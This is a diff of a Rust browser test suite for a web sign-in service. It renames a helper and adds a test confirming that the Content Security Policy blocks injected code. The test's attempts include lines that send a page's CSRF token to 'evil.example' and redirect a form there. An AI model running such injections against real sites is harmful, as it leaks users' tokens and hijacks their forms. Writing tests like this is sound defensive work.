@@ -8,7 +8,7 @@ use hubkey_protocol::{
 use thirtyfour::{By, Key, WebDriver};
 
 use crate::{
-    chromium::{Chromium, complaints, emulate, listening, picture},
+    chromium::{complaints, emulate, in_browser, listening, picture},
     support::{Server, TICKET, confirm_page, done_page, every_answer, short, start_page},
 };
 
@@ -124,7 +124,7 @@ fn is_fault(line: &str) -> bool {
 #[tokio::test(flavor = "multi_thread")]
 async fn every_page_keeps_the_rules_in_light_and_dark_wide_and_narrow() {
     let (server, origin) = listening("", Router::new()).await;
-    Chromium::run(async move |driver| {
+    in_browser(async move |driver| {
         for (name, answer) in every_page() {
             server.broker.says(answer);
             look_at(&driver, &format!("{origin}/sign-in/abcdef"), &name).await;
@@ -135,6 +135,30 @@ async fn every_page_keeps_the_rules_in_light_and_dark_wide_and_narrow() {
             ("wrong-method", "/confirm/abcdef"),
         ] {
             look_at(&driver, &format!("{origin}{path}"), name).await;
+        }
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn security_o8_the_policy_holds_against_what_a_page_might_add() {
+    let (server, origin) = listening("", Router::new()).await;
+    in_browser(async move |driver| {
+        server.broker.shows(Page::Confirm(confirm_page()));
+        for attempt in [
+            "const style = document.createElement('style'); style.textContent = '*{display:none}'; document.head.append(style)",
+            "const script = document.createElement('script'); script.textContent = 'window.ran = 1'; document.head.append(script)",
+            "const image = new Image(); image.src = 'https://evil.example/' + document.forms[0].csrf.value; document.body.append(image)",
+            "document.body.setAttribute('style', 'display:none')",
+            "document.forms[0].action = 'https://evil.example/'; document.forms[0].submit()",
+        ] {
+            driver.goto(format!("{origin}/sign-in/abcdef")).await.unwrap();
+            assert!(complaints(&driver).await.is_empty());
+            driver.execute(attempt, vec![]).await.unwrap();
+            tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+            let told = complaints(&driver).await.join(" ");
+            assert!(told.contains("Content Security Policy"), "{attempt}: {told}");
+            assert!(driver.current_url().await.unwrap().as_str().starts_with(&origin), "{attempt}");
         }
     })
     .await;
@@ -160,7 +184,7 @@ async fn arrive(driver: &WebDriver, server: &Server, url: &str, page: Page) {
 async fn cancel_comes_first_and_enter_cancels() {
     for prefix in ["", "/services/hubkey"] {
         let (server, origin) = listening(prefix, Router::new()).await;
-        Chromium::run(async move |driver| {
+        in_browser(async move |driver| {
             let url = format!("{origin}{prefix}");
             for (page, internal) in [
                 (Page::Confirm(confirm_page()), "/internal/v1/confirm"),
@@ -218,7 +242,7 @@ async fn the_coloured_button_accepts_and_leaves_for_the_provider() {
     let (server, origin) = listening("", Router::new()).await;
     let (_, provider) = listening("", Router::new()).await;
     let provider = provider.replace("127.0.0.1", "localhost");
-    Chromium::run(async move |driver| {
+    in_browser(async move |driver| {
         arrive(&driver, &server, &origin, Page::Start(start_page())).await;
         server
             .broker
@@ -265,7 +289,7 @@ async fn feature_b10_the_tab_closes_itself_when_all_is_done() {
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let notebook_url = format!("http://{}", listener.local_addr().unwrap());
     tokio::spawn(async move { axum::serve(listener, notebook).await });
-    Chromium::run(async move |driver| {
+    in_browser(async move |driver| {
         server.broker.shows(Page::Done(done_page()));
         driver.goto(&notebook_url).await.unwrap();
         driver
